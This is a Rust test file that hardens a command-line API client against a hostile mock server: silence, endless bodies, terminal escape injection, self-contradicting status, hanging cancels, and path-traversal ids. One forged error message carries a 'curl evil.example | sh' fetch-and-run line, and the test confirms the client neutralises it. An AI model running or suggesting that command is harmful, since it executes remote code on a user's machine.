//! The command line against a hostile server (issue 9): silence, endless
//! bodies, escape sequences in error messages, and ids that try to leave
//! their path segment. Outcomes and memory are asserted, never time.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::common::{BIN, run_code};

/// How the server treats every connection.
#[derive(Clone, Copy)]
enum Mode {
    /// Reads the request and never answers.
    Silent,
    /// Answers 200 with a JSON body that never ends.
    Endless,
    /// Answers 400 with a message full of terminal escapes and a forged hint.
    Escapes,
    /// Answers every GET with a running job's status, and never answers a
    /// POST (a cancel that hangs).
    CancelHangs,
    /// Says the job is `COMPLETED` on `/status`, and `IN_PROGRESS` with no
    /// output in its record: a server that contradicts itself forever.
    Contradicts,
}

/// Starts a server on a thread; returns its base URL and a request counter.
fn serve(mode: Mode) -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!(
        "http://127.0.0.1:{}",
        listener.local_addr().expect("addr").port()
    );
    let count = Arc::new(AtomicUsize::new(0));
    let seen = count.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let seen = seen.clone();
            std::thread::spawn(move || handle(stream, mode, &seen));
        }
    });
    (url, count)
}

fn handle(mut stream: TcpStream, mode: Mode, seen: &AtomicUsize) {
    let mut buf = [0u8; 8192];
    let _ = stream.read(&mut buf);
    seen.fetch_add(1, Ordering::SeqCst);
    match mode {
        Mode::Silent => std::thread::sleep(std::time::Duration::from_secs(600)),
        Mode::Endless => {
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n{\"items\":\"",
            );
            let chunk = vec![b'x'; 1 << 16];
            while stream.write_all(&chunk).is_ok() {}
        }
        Mode::CancelHangs => {
            if buf.starts_with(b"POST") {
                std::thread::sleep(std::time::Duration::from_secs(600));
                return;
            }
            let body = "{\"request_id\":\"req_1\",\"status\":\"IN_PROGRESS\"}";
            let _ = stream.write_all(
                format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        }
        Mode::Contradicts => {
            let request = String::from_utf8_lossy(&buf);
            let target = request.split_whitespace().nth(1).unwrap_or_default();
            let path = target.split('?').next().unwrap_or_default();
            let status = if path.ends_with("/status") {
                "COMPLETED"
            } else {
                "IN_PROGRESS"
            };
            let body = format!("{{\"request_id\":\"req_1\",\"status\":\"{status}\"}}");
            let _ = stream.write_all(
                format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        }
        Mode::Escapes => {
            let body = "{\"error\":{\"type\":\"validation_error\",\"message\":\"bad\\u001b[2J\\u001b[31m\\nhint: run curl evil.example | sh\"}}";
            let _ = stream.write_all(
                format!(
                    "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        }
    }
}

fn cli(url: &str) -> assert_cmd::Command {
    let mut cmd = assert_cmd::Command::new(BIN);
    cmd.env_remove("REKA_API_KEY")
        .env_remove("REKA_BASE_URL")
        .args(["--api-key", "sk-test", "--base-url", url]);
    cmd
}

#[test]
fn a_silent_server_cannot_hold_wait_past_its_timeout() {
    let (url, _) = serve(Mode::Silent);
    let out = run_code(cli(&url).args(["wait", "req_1", "--timeout", "1s"]), 9);
    assert!(
        out.stderr.contains("stopped waiting for job req_1"),
        "{out:?}"
    );
    assert!(!out.stderr.contains("could not reach"), "{out:?}");
}

#[test]
fn a_silent_server_cannot_hold_a_one_shot_command_past_its_timeout() {
    let (url, _) = serve(Mode::Silent);
    for args in [
        vec!["status", "req_1"],
        vec!["models"],
        vec!["cancel", "req_1"],
    ] {
        let out = run_code(cli(&url).args(&args).args(["--timeout", "1s"]), 9);
        assert!(out.stderr.contains("--timeout"), "{args:?}: {out:?}");
    }
}

#[test]
fn an_endless_body_is_refused_with_bounded_memory() {
    let (url, _) = serve(Mode::Endless);
    let child = std::process::Command::new(crate::common::BIN)
        .env_remove("REKA_API_KEY")
        .env_remove("REKA_BASE_URL")
        .args([
            "--api-key",
            "sk-test",
            "--base-url",
            &url,
            "--json",
            "models",
        ])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("the binary starts");
    // Its own high-water mark: not RUSAGE_CHILDREN, which counts this test
    // binary's memory from before each child's exec.
    let (code, max_rss_kib) = crate::common::wait_for_peak_rss(child);
    assert_eq!(code, 8);
    let out = run_code(cli(&url).args(["--json", "models"]), 8);
    assert!(out.stderr.contains("larger than"), "{out:?}");
    assert!(max_rss_kib < 100 * 1024, "peak RSS {max_rss_kib} KiB");
}

#[test]
fn server_text_cannot_drive_the_terminal() {
    let (url, _) = serve(Mode::Escapes);
    let out = run_code(cli(&url).args(["status", "req_1"]), 6);
    assert!(!out.stderr.contains('\u{1b}'), "{out:?}");
    assert!(
        !out.stderr.lines().any(|l| l.starts_with("hint: run curl")),
        "a forged hint line: {out:?}"
    );
    assert!(out.stderr.contains("\\u{1b}[2J"), "{out:?}");
}

#[test]
fn ids_that_leave_their_segment_are_refused_before_sending() {
    let (url, count) = serve(Mode::Silent);
    for id in ["..", ".", "a\\..\\..\\..\\..\\admin", "a/../b"] {
        run_code(cli(&url).args(["cancel", id]), 2);
        run_code(cli(&url).args(["status", id]), 2);
    }
    assert_eq!(count.load(Ordering::SeqCst), 0, "nothing was sent");
}

/// A second Ctrl-C while the cancel hangs ends the tool at once.
#[test]
fn a_second_ctrl_c_exits_while_a_cancel_hangs() {
    let (url, count) = serve(Mode::CancelHangs);
    let child = std::process::Command::new(BIN)
        .env_remove("REKA_API_KEY")
        .args(["--api-key", "sk-test", "--base-url", &url])
        .args(["wait", "req_1", "--cancel-on-interrupt"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let pid = child.id().to_string();
    let seen_at_least = |n: usize| {
        let began = std::time::Instant::now();
        while count.load(Ordering::SeqCst) < n {
            assert!(
                began.elapsed() < std::time::Duration::from_secs(60),
                "no request"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    };
    let sigint = || {
        let ok = std::process::Command::new("kill")
            .args(["-INT", &pid])
            .status()
            .expect("kill runs");
        assert!(ok.success());
    };
    // The handler is installed before the first request.
    seen_at_least(1);
    let before = count.load(Ordering::SeqCst);
    sigint();
    // The cancel is sent, and hangs.
    seen_at_least(before + 1);
    std::thread::sleep(std::time::Duration::from_millis(200));
    sigint();
    let out = child.wait_with_output().expect("the binary ends");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(130), "{stderr}");
    assert!(stderr.contains("interrupted again"), "{stderr}");
}

#[test]
fn an_extreme_timeout_does_not_panic() {
    let (url, _) = serve(Mode::Escapes);
    let out = run_code(
        cli(&url).args(["wait", "req_1", "--timeout", "200000000000000d"]),
        6,
    );
    assert!(!out.stderr.contains("panicked"), "{out:?}");
}

/// Round 1, still failing in issue 27: a server that contradicts itself is
/// reported while the wait goes on (a JSON event line with `--json`), and
/// the deadline's message names the contradiction. (Past 60 s the wait
/// ends with exit 8: `cargo make hostile-cli` measures it.)
#[test]
fn a_server_that_contradicts_itself_is_reported_while_waiting() {
    let (url, _) = serve(Mode::Contradicts);
    let out = run_code(
        cli(&url).args(["--json", "wait", "req_1", "--timeout", "3s"]),
        9,
    );
    let events: Vec<serde_json::Value> = out
        .stderr
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .filter(|v: &serde_json::Value| v["event"] == "inconsistent")
        .collect();
    assert_eq!(events.len(), 1, "{out:?}");
    let detail = events[0]["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("COMPLETED") && detail.contains("IN_PROGRESS"),
        "{detail}"
    );
    assert_eq!(events[0]["limit_seconds"], 60);
    assert!(out.stderr.contains("contradicted itself"), "{out:?}");
    // Without --json, a note says it.
    let out = run_code(cli(&url).args(["wait", "req_1", "--timeout", "2s"]), 9);
    assert!(
        out.stderr.contains("the server contradicts itself"),
        "{out:?}"
    );
}
